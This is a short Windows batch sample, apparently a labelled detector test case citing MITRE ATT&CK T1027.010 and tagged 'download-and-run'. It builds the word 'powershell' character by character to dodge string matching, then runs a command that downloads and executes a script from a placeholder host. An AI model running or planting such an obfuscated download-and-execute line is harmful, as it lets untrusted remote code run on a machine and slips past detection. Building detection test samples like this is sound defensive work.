@rem expect: download-and-run | source: MITRE ATT&CK T1027.010
setlocal enabledelayedexpansion
set w=
for %%c in (p o w e r s h e l l) do set w=!w!%%c
%w% -c "iex (irm http://files.example.invalid/s)"
